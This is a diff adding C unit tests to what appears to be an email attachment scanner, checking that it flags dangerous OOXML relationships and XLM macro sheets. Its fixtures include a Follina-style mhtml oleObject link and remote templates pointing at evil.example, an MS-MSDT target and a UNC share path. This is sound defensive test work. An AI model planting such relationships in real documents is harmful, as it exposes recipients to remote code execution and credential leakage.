@@ -173,6 +173,81 @@ test_extension(void **state)
 	}
 }
 
+/* A docx whose one relationship part is rels. */
+static void
+check_docx_rels(const char *rels_name, const char *rels,
+		const enum attach_symbol *want, size_t nwant, bool block)
+{
+	unsigned char *docx;
+	size_t len;
+
+	docx = make_zip(
+	    (struct member[]){{"[Content_Types].xml", "<Types/>", 8},
+			      {"word/document.xml", "<w:document/>", 13},
+			      {rels_name, rels, strlen(rels)}},
+	    3, false, &len);
+	check("offer.docx", NULL, docx, len, want, nwant, block);
+	free(docx);
+}
+
+/* Links an OOXML document follows when it opens, and XLM macro sheets. */
+static void
+test_ooxml_links(void)
+{
+	static const char follina[] =
+	    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
+	    "openxmlformats.org/package/2006/relationships\"><Relationship "
+	    "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
+	    "officeDocument/2006/relationships/styles\" Target=\"styles.xml"
+	    "\"/><Relationship Id=\"rId996\" Type=\"http://schemas."
+	    "openxmlformats.org/officeDocument/2006/relationships/oleObject\" "
+	    "Target=\"mhtml:https://evil.example/x.html!x-usc:https://evil."
+	    "example/x.html\" TargetMode=\"External\"/></Relationships>";
+	static const char msdt[] =
+	    "<Relationships><Relationship Id='r' Type='t' TargetMode="
+	    "'External' Target='  MS-MSDT:/id PCWDiagnostic'/></Relationships>";
+	static const char tmpl[] =
+	    "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas."
+	    "openxmlformats.org/officeDocument/2006/relationships/"
+	    "attachedTemplate\" Target=\"https://evil.example/t.dotm\" "
+	    "TargetMode=\"External\"/></Relationships>";
+	static const char unc[] =
+	    "<Relationships><Relationship Type=\"http://schemas.openxmlformats"
+	    ".org/officeDocument/2006/relationships/attachedTemplate\" "
+	    "Target=\"\\\\198.51.100.7\\share\\t.dotx\" TargetMode=\""
+	    "External\"/></Relationships>";
+	static const char hyperlink[] =
+	    "<Relationships><Relationship Type=\"http://schemas.openxmlformats"
+	    ".org/officeDocument/2006/relationships/hyperlink\" Target=\""
+	    "https://www.example.com/\" TargetMode=\"External\"/>"
+	    "<Relationship Type=\"http://schemas.openxmlformats.org/"
+	    "officeDocument/2006/relationships/attachedTemplate\" Target=\""
+	    "file:///C:/Templates/Normal.dotm\" TargetMode=\"External\"/>"
+	    "</Relationships>";
+	unsigned char *xlsm;
+	size_t len;
+
+	check_docx_rels("word/_rels/document.xml.rels", follina,
+			W(ATTACH_SYM_EXPLOIT_LINK), 1, true);
+	check_docx_rels("word/_rels/document.xml.rels", msdt,
+			W(ATTACH_SYM_EXPLOIT_LINK), 1, true);
+	check_docx_rels("word/_rels/settings.xml.rels", tmpl,
+			W(ATTACH_SYM_REMOTE_TEMPLATE), 1, false);
+	check_docx_rels("word/_rels/settings.xml.rels", unc,
+			W(ATTACH_SYM_REMOTE_TEMPLATE), 1, false);
+	/* A web link, and the local template Word records. */
+	check_docx_rels("word/_rels/document.xml.rels", hyperlink, NULL, 0,
+			false);
+	xlsm =
+	    make_zip((struct member[]){{"[Content_Types].xml", "<Types/>", 8},
+				       {"xl/workbook.xml", "<workbook/>", 11},
+				       {"xl/macrosheets/sheet1.xml",
+					"<xm:macrosheet/>", 16}},
+		     3, false, &len);
+	check("q3.xlsx", NULL, xlsm, len, W(ATTACH_SYM_MACRO), 1, true);
+	free(xlsm);
+}
+
 static void
 test_files(void **state)
 {
@@ -229,6 +304,7 @@ test_files(void **state)
 	    2, false, &dlen);
 	check("report.docx", NULL, docx, dlen, NULL, 0, false);
 	free(docx);
+	test_ooxml_links();
 	odt = make_zip(
 	    (struct member[]){{"mimetype", "application/vnd.oasis", 21},
 			      {"Basic/script-lc.xml", "<x/>", 4},
